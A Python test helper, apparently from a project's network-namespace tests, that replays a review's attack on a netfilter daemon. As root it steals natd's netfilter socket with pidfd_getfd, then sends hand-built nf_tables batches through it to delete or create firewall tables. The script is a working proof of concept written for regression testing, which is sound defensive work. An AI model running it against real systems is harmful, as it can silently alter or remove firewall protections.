#!/usr/bin/env python3
"""The review's attack on the netfilter socket, replayed (tests/netns/nfsocket.sh).

  nfattack.py steal PID FD -- CMD...  (root) copies fd FD of process PID
      with pidfd_getfd(2) to fd 3 of CMD, which it execs: the queue socket
      natd holds, obtained from the running natd itself.
  nfattack.py send FD ACTION...       sends one nf_tables batch per ACTION
      on FD and prints uid, effective capabilities and any reply it sees:
      deltable:NAME, newtable:NAME, ownedtable:NAME (owner flag: only
      this socket's port could delete it).

Standard library only: the same bytes nft or libnftnl would send.
"""
import ctypes
import os
import socket
import struct
import sys
import time

NFNL_SUBSYS_NFTABLES = 10
NFNL_MSG_BATCH_BEGIN, NFNL_MSG_BATCH_END = 16, 17
NFT_MSG_NEWTABLE, NFT_MSG_DELTABLE = 0, 2
NLM_F_REQUEST, NLM_F_ACK, NLM_F_CREATE = 0x1, 0x4, 0x400
NFTA_TABLE_NAME, NFTA_TABLE_FLAGS = 1, 2
NFT_TABLE_F_OWNER = 2
NFPROTO_IPV4 = 2
SYS_pidfd_getfd = 438


def attr(t, data):
    a = struct.pack("=HH", 4 + len(data), t) + data
    return a + b"\0" * (-len(a) % 4)


def msg(mtype, flags, seq, family, res_id, payload=b""):
    body = struct.pack("=BBH", family, 0, socket.htons(res_id)) + payload
    return struct.pack("=IHHII", 16 + len(body), mtype, flags, seq, 0) + body


def batch(seq, mtype, flags, payload):
    return (msg(NFNL_MSG_BATCH_BEGIN, NLM_F_REQUEST, seq, 0,
                NFNL_SUBSYS_NFTABLES) +
            msg((NFNL_SUBSYS_NFTABLES << 8) | mtype,
                NLM_F_REQUEST | NLM_F_ACK | flags, seq + 1, NFPROTO_IPV4, 0,
                payload) +
            msg(NFNL_MSG_BATCH_END, NLM_F_REQUEST, seq + 2, 0,
                NFNL_SUBSYS_NFTABLES))


def steal(pid, fd, cmd):
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = os.pidfd_open(pid)
    got = libc.syscall(SYS_pidfd_getfd, pidfd, fd, 0)
    if got < 0:
        sys.exit("pidfd_getfd: %s" % os.strerror(ctypes.get_errno()))
    os.dup2(got, 3)		# dup2 leaves fd 3 inheritable
    os.execvp(cmd[0], cmd)


def caps():
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith("CapEff:"):
                return line.split()[1]
    return "?"


def send(fd, actions):
    s = socket.socket(fileno=fd)
    print("uid %d gid %d CapEff %s socket family %d port %d" % (
        os.getuid(), os.getgid(), caps(), s.family, s.getsockname()[0]))
    seq = 0x4e460000
    for a in actions:
        kind, name = a.split(":", 1)
        payload = attr(NFTA_TABLE_NAME, name.encode() + b"\0")
        if kind == "deltable":
            b = batch(seq, NFT_MSG_DELTABLE, 0, payload)
        elif kind == "newtable":
            b = batch(seq, NFT_MSG_NEWTABLE, NLM_F_CREATE, payload)
        elif kind == "ownedtable":
            payload += attr(NFTA_TABLE_FLAGS,
                            struct.pack("!I", NFT_TABLE_F_OWNER))
            b = batch(seq, NFT_MSG_NEWTABLE, NLM_F_CREATE, payload)
        else:
            sys.exit("unknown action " + a)
        try:
            s.send(b)
            print("%s: sent" % a)
        except OSError as e:
            print("%s: send: %s" % (a, e))
        # natd reads this socket too and may take the ACK first.
        end = time.time() + 0.3
        while time.time() < end:
            try:
                r = s.recv(65536, socket.MSG_DONTWAIT)
            except BlockingIOError:
                time.sleep(0.01)
                continue
            while len(r) >= 20:
                ln, t, _, sq, _ = struct.unpack_from("=IHHII", r)
                if t == 2 and seq <= sq <= seq + 2:
                    err = struct.unpack_from("=i", r, 16)[0]
                    print("%s: kernel ack %d (%s)" % (
                        a, err, os.strerror(-err) if err else "ok"))
                    end = 0
                r = r[(ln + 3) & ~3:] if ln >= 16 else b""
        seq += 16
    s.detach()


if __name__ == "__main__":
    if sys.argv[1] == "steal" and sys.argv[4] == "--":
        steal(int(sys.argv[2]), int(sys.argv[3]), sys.argv[5:])
    elif sys.argv[1] == "send":
        send(int(sys.argv[2]), sys.argv[3:])
    else:
        sys.exit(__doc__)
